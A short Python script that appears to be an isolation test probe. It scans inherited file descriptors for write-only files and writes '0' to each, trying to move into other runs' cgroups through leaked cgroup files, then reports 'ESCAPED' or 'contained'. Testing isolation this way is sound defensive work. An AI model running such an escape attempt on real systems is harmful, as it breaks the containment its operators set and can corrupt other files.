# what: moves itself into other runs' cgroups through files of them that were left open
# layers: descriptors, cgroup_v1
import fcntl, os, stat

for fd in range(3, 4096):
    try:
        mode, access = os.fstat(fd).st_mode, fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
    except OSError:
        continue
    if stat.S_ISREG(mode) and access == os.O_WRONLY:
        print("ESCAPED", fd, "is a file that can be written to")
        try:
            os.write(fd, b"0")
            print("ESCAPED into the cgroup that", fd, "leads to")
        except OSError:
            pass
print("contained")
